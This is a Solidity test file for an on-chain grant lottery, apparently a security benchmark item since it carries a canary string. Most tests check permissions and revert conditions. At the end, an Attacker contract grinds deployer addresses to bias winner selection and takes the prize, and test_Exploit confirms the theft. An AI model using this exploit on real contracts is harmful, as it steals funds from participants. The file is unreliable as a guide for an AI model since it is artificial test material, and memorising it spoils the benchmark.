// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./GrantLottery.sol";
import {RandomBeacon} from "./context/RandomBeacon.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import {Strings} from "@openzeppelin/contracts@4.9.6/utils/Strings.sol";

// assay-canary-94eada8c-293e-4345-b3a5-edfaa59ab909

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant DESK = address(0xDE5);
    address private constant REG = address(0x4E6);
    address private constant OPERATOR = address(0x09E);
    uint64 private constant START = 1_700_000_000;
    bytes32 private constant VALUE = keccak256("value 0");
    bytes32 private constant OTHER = keccak256("value 1");

    Coin private token;
    RandomBeacon private beacon;
    GrantLottery private lottery;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        beacon = new RandomBeacon(OPERATOR);
        lottery = new GrantLottery(token, beacon);
        lottery.grantRole(lottery.GRANTS_ROLE(), DESK);
        lottery.grantRole(lottery.REGISTRAR_ROLE(), REG);
        mallory = new Attacker(lottery, beacon);
        token.transfer(DESK, 100_000e18);
        vm.startPrank(OPERATOR);
        beacon.commit(keccak256(abi.encode(VALUE)));
        beacon.commit(keccak256(abi.encode(OTHER)));
        vm.stopPrank();
        vm.startPrank(REG);
        lottery.admit(ANA, START + 300 days);
        lottery.admit(address(mallory), START + 300 days);
        for (uint160 i = 0; i < 6; i++) lottery.admit(address(0x1000 + i), START + 300 days);
        vm.stopPrank();
        vm.startPrank(DESK);
        token.approve(address(lottery), 100_000e18);
        lottery.openDraw(5_000e18, START + 10 days, 0);
        vm.stopPrank();
        vm.prank(ANA);
        lottery.enter(0);
        mallory.enter();
        for (uint160 i = 0; i < 6; i++) {
            vm.prank(address(0x1000 + i));
            lottery.enter(0);
        }
        vm.warp(START + 10 days);
        vm.prank(OPERATOR);
        beacon.reveal(0, VALUE);
    }

    function open(uint64 closesAt, uint256 round) private returns (uint256) {
        vm.prank(DESK);
        return lottery.openDraw(1_000e18, closesAt, round);
    }

    function commit(bytes32 value) private {
        vm.prank(OPERATOR);
        beacon.commit(keccak256(abi.encode(value)));
    }

    function test_Regular() public {
        open(START + 20 days, 1);
        vm.prank(address(0x1000));
        lottery.enter(1);
        vm.prank(ANA);
        lottery.enter(1);
        vm.prank(address(0x1001));
        lottery.enter(1);
        vm.prank(address(0x1000));
        lottery.withdrawEntry(1);
        require(lottery.drawAt(1).entrants[0] == address(0x1001), "the last one moved");
        vm.prank(address(0x1001));
        lottery.withdrawEntry(1);
        require(lottery.hasEntered(1, ANA) && !lottery.hasEntered(1, address(0x1001)), "one is left");
        vm.warp(START + 20 days);
        require(!lottery.isReady(1), "no value");
        vm.prank(OPERATOR);
        beacon.reveal(1, OTHER);
        require(lottery.isReady(1), "ready");
        lottery.settle(1);
        vm.prank(ANA);
        lottery.collect(1);
        require(token.balanceOf(ANA) == 1_000e18, "one entrant");
        commit(VALUE);
        commit(VALUE);
        open(START + 30 days, 2);
        open(START + 30 days, 3);
        vm.prank(REG);
        lottery.exclude(ANA);
        vm.prank(address(0x1000));
        lottery.enter(3);
        vm.startPrank(DESK);
        lottery.pause();
        lottery.unpause();
        vm.warp(START + 30 days);
        lottery.cancel(2);
        vm.stopPrank();
        vm.prank(OPERATOR);
        beacon.reveal(3, VALUE);
        lottery.settle(3);
        vm.warp(START + 90 days + 1);
        vm.prank(DESK);
        lottery.reclaim(3);
        require(token.balanceOf(DESK) == 94_000e18 && lottery.drawAt(2).settled, "came back");
        lottery.revokeRole(lottery.GRANTS_ROLE(), DESK);
        lottery.renounceRole(lottery.DEFAULT_ADMIN_ROLE(), address(this));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        lottery.admit(BEN, START + 300 days);
        vm.expectRevert();
        lottery.exclude(ANA);
        vm.expectRevert();
        lottery.pause();
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.NotWinner.selector, BEN));
        lottery.collect(0);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.NoToken.selector));
        new GrantLottery(IERC20(address(0)), beacon);
        vm.startPrank(REG);
        vm.expectRevert(abi.encodeWithSelector(ApplicantRegister.InThePast.selector, START + 10 days));
        lottery.admit(BEN, START + 10 days);
        vm.expectRevert(abi.encodeWithSelector(ApplicantRegister.NotAdmitted.selector, BEN));
        lottery.exclude(BEN);
        vm.stopPrank();
    }

    /// Each of these calls would succeed if the desk made it.
    function test_RefusesStrangersAtTheDesk() public {
        bytes memory reason = abi.encodePacked(
            "AccessControl: account ",
            Strings.toHexString(BEN),
            " is missing role ",
            Strings.toHexString(uint256(lottery.GRANTS_ROLE()), 32)
        );
        vm.prank(DESK);
        lottery.pause();
        vm.prank(BEN);
        vm.expectRevert(reason);
        lottery.unpause();
        token.transfer(BEN, 1_000e18);
        vm.startPrank(BEN);
        token.approve(address(lottery), 1_000e18);
        vm.expectRevert(reason);
        lottery.openDraw(1_000e18, START + 20 days, 1);
        vm.stopPrank();
        open(START + 20 days, 1);
        lottery.settle(0);
        vm.warp(START + 20 days);
        vm.prank(BEN);
        vm.expectRevert(reason);
        lottery.cancel(1);
        vm.warp(START + 70 days + 1);
        vm.prank(BEN);
        vm.expectRevert(reason);
        lottery.reclaim(0);
    }

    function test_RefusesDraws() public {
        vm.startPrank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.BadClosing.selector, START + 10 days));
        lottery.openDraw(1, START + 10 days, 1);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.BadClosing.selector, START + 100 days + 1));
        lottery.openDraw(1, START + 100 days + 1, 1);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.RoundNotUsable.selector, 2));
        lottery.openDraw(1, START + 20 days, 2);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.NoAmount.selector));
        lottery.openDraw(0, START + 20 days, 1);
        lottery.openDraw(1, START + 100 days, 1);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.RoundNotUsable.selector, 1));
        lottery.openDraw(1, START + 20 days, 1);
        vm.stopPrank();
        commit(VALUE);
        vm.prank(OPERATOR);
        beacon.reveal(2, VALUE);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.RoundNotUsable.selector, 2));
        lottery.openDraw(1, START + 20 days, 2);
    }

    function test_RefusesEntries() public {
        open(START + 20 days, 1);
        vm.expectRevert(abi.encodeWithSelector(ApplicantRegister.NotAdmitted.selector, address(this)));
        lottery.enter(1);
        vm.prank(DESK);
        lottery.pause();
        vm.prank(ANA);
        vm.expectRevert("Pausable: paused");
        lottery.enter(1);
        vm.prank(DESK);
        lottery.unpause();
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.EntriesClosed.selector, START + 10 days));
        lottery.enter(0);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.EntriesClosed.selector, START + 10 days));
        lottery.withdrawEntry(0);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.NotEntered.selector, ANA));
        lottery.withdrawEntry(1);
        lottery.enter(1);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.AlreadyEntered.selector, ANA));
        lottery.enter(1);
        vm.stopPrank();
    }

    function test_RefusesSettlements() public {
        open(START + 20 days, 1);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.EntriesOpen.selector, START + 20 days));
        lottery.settle(1);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.NotCancellable.selector, 1));
        lottery.cancel(1);
        vm.warp(START + 20 days);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.NoEntrants.selector, 1));
        lottery.settle(1);
        lottery.settle(0);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.AlreadySettled.selector, 0));
        lottery.settle(0);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.AlreadySettled.selector, 0));
        lottery.cancel(0);
    }

    /// A value that is public too early, and one that does not come.
    function test_RefusesValues() public {
        open(START + 20 days, 1);
        vm.prank(ANA);
        lottery.enter(1);
        vm.warp(START + 20 days - 1);
        vm.prank(OPERATOR);
        beacon.reveal(1, OTHER);
        vm.warp(START + 20 days);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.RoundNotUsable.selector, 1));
        lottery.settle(1);
        vm.prank(DESK);
        lottery.cancel(1);
        commit(VALUE);
        open(START + 30 days, 2);
        vm.prank(ANA);
        lottery.enter(2);
        vm.warp(START + 37 days);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.RoundNotUsable.selector, 2));
        lottery.settle(2);
        vm.startPrank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantLottery.NotCancellable.selector, 2));
        lottery.cancel(2);
        vm.warp(START + 37 days + 1);
        lottery.cancel(2);
        require(token.balanceOf(DESK) == 95_000e18, "back");
        vm.stopPrank();
    }

    function test_RefusesCollections() public {
        open(START + 20 days, 1);
        vm.prank(ANA);
        lottery.enter(1);
        vm.warp(START + 20 days);
        vm.prank(OPERATOR);
        beacon.reveal(1, OTHER);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.StillCollectable.selector, 0));
        lottery.reclaim(1);
        lottery.settle(1);
        vm.warp(START + 80 days);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.StillCollectable.selector, START + 80 days));
        lottery.reclaim(1);
        vm.warp(START + 80 days + 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.TooLate.selector, START + 80 days));
        lottery.collect(1);
        vm.warp(START + 80 days);
        vm.startPrank(ANA);
        lottery.collect(1);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.NothingLeft.selector, 1));
        lottery.collect(1);
        vm.stopPrank();
        vm.warp(START + 80 days + 1);
        vm.prank(DESK);
        vm.expectRevert(abi.encodeWithSelector(GrantDesk.NothingLeft.selector, 1));
        lottery.reclaim(1);
    }

    function test_RefusesBeacons() public {
        vm.expectRevert(abi.encodeWithSelector(RandomBeacon.NoOperator.selector));
        new RandomBeacon(address(0));
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        beacon.setOperator(ANA);
        bytes memory stranger = abi.encodeWithSelector(RandomBeacon.NotOperator.selector, address(this));
        vm.expectRevert(stranger);
        beacon.commit(VALUE);
        vm.expectRevert(stranger);
        beacon.reveal(1, OTHER);
        vm.expectRevert(abi.encodeWithSelector(RandomBeacon.NotRevealed.selector, 1));
        beacon.valueOf(1);
        vm.startPrank(OPERATOR);
        vm.expectRevert(abi.encodeWithSelector(RandomBeacon.AlreadyRevealed.selector, 0));
        beacon.reveal(0, VALUE);
        vm.expectRevert(abi.encodeWithSelector(RandomBeacon.WrongValue.selector, 1, VALUE));
        beacon.reveal(1, VALUE);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 5_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(lottery);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    GrantLottery private lottery;
    RandomBeacon private beacon;

    constructor(GrantLottery l, RandomBeacon b) {
        lottery = l;
        beacon = b;
    }

    function enter() external {
        lottery.enter(0);
    }

    function run() external {
        bytes32 value = beacon.valueOf(0);
        for (uint256 i = 0; i < 100; i++) {
            Caller caller = new Caller();
            if (uint256(keccak256(abi.encode(value, 0, caller))) % 8 == 1) {
                caller.settle(lottery);
                break;
            }
        }
        lottery.collect(0);
    }
}

contract Caller {
    function settle(GrantLottery lottery) external {
        lottery.settle(0);
    }
}
